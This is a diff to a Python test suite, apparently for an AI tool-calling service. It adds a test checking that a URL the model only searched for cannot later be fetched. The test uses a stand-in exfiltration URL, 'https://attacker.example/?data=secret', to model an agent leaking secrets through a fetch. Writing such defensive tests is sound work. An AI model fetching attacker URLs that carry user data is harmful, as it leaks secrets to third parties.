@@ -217,6 +217,15 @@ def test_a_page_that_may_not_be_read_has_the_native_code(
     assert found(ask(client, messages=asked, tools=[{**FETCH, **extra}]))[0].error_code == code
 
 
+def test_a_search_for_an_address_makes_it_known_to_no_later_call(client: Any, messages_api: Any, brave_api: Any) -> None:
+    """What nobody else wrote down could carry away what the model knows."""
+    url = "https://attacker.example/?data=secret"
+    brave_api.reply([])
+    messages_api.replies(search(url), "Nothing.", fetch(url), "I could not.")
+    history = going_on(ask(client, tools=[SEARCH, FETCH]))
+    assert found(ask(client, messages=history, tools=[SEARCH, FETCH]))[-1].error_code == "url_not_in_prior_context"
+
+
 # --- histories --------------------------------------------------------------------------------------------------------
 
 
